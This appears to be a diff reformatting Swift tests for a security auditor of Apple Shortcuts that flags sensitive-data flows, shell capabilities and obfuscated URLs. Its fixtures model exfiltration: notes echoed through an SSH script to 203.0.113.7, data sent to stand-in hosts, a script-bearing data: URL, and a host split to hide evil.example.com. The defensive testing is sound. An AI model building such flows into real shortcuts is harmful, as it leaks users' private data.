@@ -10,8 +10,10 @@ import Testing
 
     @Test func sourceSensitivitySetsTheSeverityOfANetworkFlow() {
         func severity(_ source: String) -> Severity? {
-            F.findings([F.action(source, 1), F.fetch(F.text(.text("https://s.example.com/?"), .variable(F.output(1))))],
-                rule: "audit.flow.network").first?.severity
+            F.findings(
+                [F.action(source, 1), F.fetch(F.text(.text("https://s.example.com/?"), .variable(F.output(1))))],
+                rule: "audit.flow.network"
+            ).first?.severity
         }
         #expect(severity("filter.health.quantity") == .error)
         #expect(severity("dk.simonbs.DataJar.GetValueIntent") == .warning)  // third-party getter: app data
@@ -21,9 +23,12 @@ import Testing
     }
 
     @Test func socialPostingIsAFlowRule() throws {
-        let finding = try #require(F.findings([
-            F.action("takescreenshot", 1), F.action("tweet", nil, [("TweetInput", .variable(F.output(1)))]),
-        ], rule: "audit.flow.social").first)
+        let finding = try #require(
+            F.findings(
+                [
+                    F.action("takescreenshot", 1), F.action("tweet", nil, [("TweetInput", .variable(F.output(1)))]),
+                ], rule: "audit.flow.social"
+            ).first)
         #expect(finding.severity == .error)
         #expect(finding.pathDescription == "0 Take a Screenshot → 1 Tweet")
         #expect(finding.verdict == "posts screen content online")
@@ -32,9 +37,12 @@ import Testing
     @Test func dataPassedToAnSSHScriptIsAFlowAndTheScriptACapability() throws {
         let report = F.audit([
             F.action("filter.notes", 1),
-            F.action("runsshscript", nil, [
-                ("WFSSHHost", "203.0.113.7"), ("WFSSHScript", F.text(.text("echo '"), .variable(F.output(1, "Notes")), .text("' >> /tmp/n"))),
-            ]),
+            F.action(
+                "runsshscript", nil,
+                [
+                    ("WFSSHHost", "203.0.113.7"),
+                    ("WFSSHScript", F.text(.text("echo '"), .variable(F.output(1, "Notes")), .text("' >> /tmp/n"))),
+                ]),
         ])
         #expect(report.findings.map(\.rule) == ["audit.flow.script", "audit.capability.shell"])
         #expect(report.findings[0].severity == .error)
@@ -44,21 +52,28 @@ import Testing
     }
 
     @Test func savingFilesCopyingAndHandingToAppsAreWarningsForSensitiveData() {
-        let files = F.findings([
-            F.action("selectphoto", 1), F.action("documentpicker.save", nil, [("WFInput", .variable(F.output(1)))]),
-        ], rule: "audit.flow.files")
+        let files = F.findings(
+            [
+                F.action("selectphoto", 1), F.action("documentpicker.save", nil, [("WFInput", .variable(F.output(1)))]),
+            ], rule: "audit.flow.files")
         #expect(files.map(\.severity) == [.warning])
-        let clipboard = F.findings([
-            F.action("getcurrentlocation", 1), F.action("setclipboard", nil, [("WFInput", .variable(F.output(1)))]),
-        ], rule: "audit.flow.clipboard")
+        let clipboard = F.findings(
+            [
+                F.action("getcurrentlocation", 1), F.action("setclipboard", nil, [("WFInput", .variable(F.output(1)))]),
+            ], rule: "audit.flow.clipboard")
         #expect(clipboard.map(\.pathDescription) == ["0 Get Current Location → 1 Copy to Clipboard"])
-        let app = F.findings([
-            F.action("selectcontacts", 1), F.action("com.example.Notebook.SaveIntent", nil, [("entry", .variable(F.output(1)))]),
-        ], rule: "audit.flow.app")
+        let app = F.findings(
+            [
+                F.action("selectcontacts", 1),
+                F.action("com.example.Notebook.SaveIntent", nil, [("entry", .variable(F.output(1)))]),
+            ], rule: "audit.flow.app")
         #expect(app.map(\.severity) == [.warning])
         // Low-sensitivity data stored locally is not worth a finding.
-        #expect(F.findings([F.action("ask", 1), F.action("setclipboard", nil, [("WFInput", .variable(F.output(1)))])],
-            rule: "audit.flow.clipboard").isEmpty)
+        #expect(
+            F.findings(
+                [F.action("ask", 1), F.action("setclipboard", nil, [("WFInput", .variable(F.output(1)))])],
+                rule: "audit.flow.clipboard"
+            ).isEmpty)
     }
 
     @Test func anOpenURLWithAnAppSchemeIsAnAppFlowNotANetworkFlow() {
@@ -79,50 +94,72 @@ import Testing
             F.action("dk.simonbs.Scriptable.RunScriptInlineIntent", nil, [("script", "console.log(1)")]),
         ])
         // Most severe first, then in action order.
-        #expect(report.findings.map(\.rule) == [
-            "audit.capability.delete", "audit.capability.shell", "audit.capability.settings", "audit.capability.settings",
-            "audit.capability.run-shortcut",
-        ])
+        #expect(
+            report.findings.map(\.rule) == [
+                "audit.capability.delete", "audit.capability.shell", "audit.capability.settings",
+                "audit.capability.settings",
+                "audit.capability.run-shortcut",
+            ])
         #expect(report.findings.map(\.sinkAction) == [0, 4, 1, 2, 3])
-        #expect(report.verdict
-            == "deletes files; runs a Scriptable script; changes device settings; changes accessibility settings; runs other shortcuts")
+        #expect(
+            report.verdict
+                == "deletes files; runs a Scriptable script; changes device settings; changes accessibility settings; runs other shortcuts"
+        )
     }
 
     @Test func importingAShortcutLinkIsSelfUpdate() throws {
-        let finding = try #require(F.findings([
-            F.action("gettext", 1, [("WFTextActionText", "https://www.icloud.com/shortcuts/0123456789abcdef0123456789abcdef")]),
-            F.action("openurl", nil, [("WFInput", .variable(F.output(1)))]),
-        ], rule: "audit.capability.self-update").first)
+        let finding = try #require(
+            F.findings(
+                [
+                    F.action(
+                        "gettext", 1,
+                        [("WFTextActionText", "https://www.icloud.com/shortcuts/0123456789abcdef0123456789abcdef")]),
+                    F.action("openurl", nil, [("WFInput", .variable(F.output(1)))]),
+                ], rule: "audit.capability.self-update"
+            ).first)
         #expect(finding.severity == .warning)
         #expect(finding.sinkAction == 1)
         #expect(finding.hosts == ["www.icloud.com"])
     }
 
     @Test func aDataURLWithAScriptIsFlagged() throws {
-        let finding = try #require(F.findings([
-            F.action("url", 1, [("WFURLActionURL", "data:text/html,<script>location='https://x.example'</script>")]),
-            F.action("getwebpagecontents", nil, [("WFInput", .variable(F.output(1)))]),
-        ], rule: "audit.capability.data-url-script").first)
+        let finding = try #require(
+            F.findings(
+                [
+                    F.action(
+                        "url", 1, [("WFURLActionURL", "data:text/html,<script>location='https://x.example'</script>")]),
+                    F.action("getwebpagecontents", nil, [("WFInput", .variable(F.output(1)))]),
+                ], rule: "audit.capability.data-url-script"
+            ).first)
         #expect(finding.hosts == ["data:"])
-        #expect(F.findings([
-            F.action("url", 1, [("WFURLActionURL", "data:text/plain,hello")]),
-            F.action("getwebpagecontents", nil, [("WFInput", .variable(F.output(1)))]),
-        ], rule: "audit.capability.data-url-script").isEmpty)
+        #expect(
+            F.findings(
+                [
+                    F.action("url", 1, [("WFURLActionURL", "data:text/plain,hello")]),
+                    F.action("getwebpagecontents", nil, [("WFInput", .variable(F.output(1)))]),
+                ], rule: "audit.capability.data-url-script"
+            ).isEmpty)
     }
 
     @Test func aURLWhoseHostIsSplitOverTextActionsIsAssembled() throws {
-        let finding = try #require(F.findings([
-            F.action("gettext", 1, [("WFTextActionText", "https://ev")]),
-            F.action("gettext", 2, [("WFTextActionText", "il.example.com/c")]),
-            F.fetch(F.text(.variable(F.output(1)), .variable(F.output(2)))),
-        ], rule: "audit.obfuscation.assembled").first)
+        let finding = try #require(
+            F.findings(
+                [
+                    F.action("gettext", 1, [("WFTextActionText", "https://ev")]),
+                    F.action("gettext", 2, [("WFTextActionText", "il.example.com/c")]),
+                    F.fetch(F.text(.variable(F.output(1)), .variable(F.output(2)))),
+                ], rule: "audit.obfuscation.assembled"
+            ).first)
         #expect(finding.hosts == ["evil.example.com"])
         #expect(finding.pathDescription == "0 Text → 1 Text → 2 Get Contents of URL (GET evil.example.com)")
         // A base URL kept in a variable with a path added is not obfuscation.
-        #expect(F.findings([
-            F.action("gettext", 1, [("WFTextActionText", "https://api.example.com")]),
-            F.fetch(F.text(.variable(F.output(1)), .text("/v1/items"))),
-        ], rule: "audit.obfuscation.assembled").isEmpty)
+        #expect(
+            F.findings(
+                [
+                    F.action("gettext", 1, [("WFTextActionText", "https://api.example.com")]),
+                    F.fetch(F.text(.variable(F.output(1)), .text("/v1/items"))),
+                ], rule: "audit.obfuscation.assembled"
+            ).isEmpty)
     }
 
     @Test func decodedTextUsedAsAURLIsFlaggedAndItsHostRead() throws {
@@ -139,14 +176,21 @@ import Testing
 
     @Test func aLongEncodedBlobWithoutACommentIsNoted() {
         let blob = String(repeating: "QUJD", count: 300)
-        #expect(F.findings([F.action("gettext", 1, [("WFTextActionText", .string(blob))])], rule: "audit.obfuscation.blob")
-            .map(\.severity) == [.note])
-        #expect(F.findings([
-            F.action("comment", nil, [("WFCommentActionText", "the app icon, base64")]),
-            F.action("gettext", 1, [("WFTextActionText", .string(blob))]),
-        ], rule: "audit.obfuscation.blob").isEmpty)
-        #expect(F.findings([F.action("gettext", 1, [("WFTextActionText", .string(String(repeating: "a b ", count: 400)))])],
-            rule: "audit.obfuscation.blob").isEmpty)
+        #expect(
+            F.findings([F.action("gettext", 1, [("WFTextActionText", .string(blob))])], rule: "audit.obfuscation.blob")
+                .map(\.severity) == [.note])
+        #expect(
+            F.findings(
+                [
+                    F.action("comment", nil, [("WFCommentActionText", "the app icon, base64")]),
+                    F.action("gettext", 1, [("WFTextActionText", .string(blob))]),
+                ], rule: "audit.obfuscation.blob"
+            ).isEmpty)
+        #expect(
+            F.findings(
+                [F.action("gettext", 1, [("WFTextActionText", .string(String(repeating: "a b ", count: 400)))])],
+                rule: "audit.obfuscation.blob"
+            ).isEmpty)
     }
 
     // MARK: - Quiet cases
@@ -163,35 +207,41 @@ import Testing
     }
 
     @Test func aURLFetchedWithNoSensitiveDataIsQuiet() {
-        #expect(F.audit([
-            F.action("gettext", 1, [("WFTextActionText", "Stockholm")]),
-            F.fetch(F.text(.text("https://api.example.com/weather?city="), .variable(F.output(1)))),
-        ]).findings.isEmpty)
+        #expect(
+            F.audit([
+                F.action("gettext", 1, [("WFTextActionText", "Stockholm")]),
+                F.fetch(F.text(.text("https://api.example.com/weather?city="), .variable(F.output(1)))),
+            ]).findings.isEmpty)
     }
 
     @Test func aVariableOverwrittenBeforeTheSinkIsQuiet() {
-        #expect(F.audit([
-            F.action("getclipboard", 1),
-            F.setVariable("payload", F.output(1)),
-            F.action("gettext", 3, [("WFTextActionText", "hello")]),
-            F.setVariable("payload", F.output(3)),
-            F.fetch(F.text(.text("https://api.example.com/?p="), .variable(.variable("payload")))),
-        ]).findings.isEmpty)
+        #expect(
+            F.audit([
+                F.action("getclipboard", 1),
+                F.setVariable("payload", F.output(1)),
+                F.action("gettext", 3, [("WFTextActionText", "hello")]),
+                F.setVariable("payload", F.output(3)),
+                F.fetch(F.text(.text("https://api.example.com/?p="), .variable(.variable("payload")))),
+            ]).findings.isEmpty)
     }
 
     @Test func messageRecipientsAreNotTheMessage() {
-        #expect(F.audit([
-            F.action("selectcontacts", 1),
-            F.action("sendmessage", nil, [("WFSendMessageActionRecipients", .variable(F.output(1))), ("WFSendMessageContent", "Hi")]),
-        ]).findings.isEmpty)
+        #expect(
+            F.audit([
+                F.action("selectcontacts", 1),
+                F.action(
+                    "sendmessage", nil,
+                    [("WFSendMessageActionRecipients", .variable(F.output(1))), ("WFSendMessageContent", "Hi")]),
+            ]).findings.isEmpty)
     }
 
     @Test func repeatIndexCarriesNoData() {
-        #expect(F.audit([
-            F.action("getclipboard", 1),
-            F.control("repeat.each", .start, group: 1, [("WFInput", .variable(F.output(1)))]),
-            F.fetch(F.text(.text("https://api.example.com/?i="), .variable(.variable("Repeat Index")))),
-            F.control("repeat.each", .end, group: 1),
-        ]).findings.isEmpty)
+        #expect(
+            F.audit([
+                F.action("getclipboard", 1),
+                F.control("repeat.each", .start, group: 1, [("WFInput", .variable(F.output(1)))]),
+                F.fetch(F.text(.text("https://api.example.com/?i="), .variable(.variable("Repeat Index")))),
+                F.control("repeat.each", .end, group: 1),
+            ]).findings.isEmpty)
     }
 }
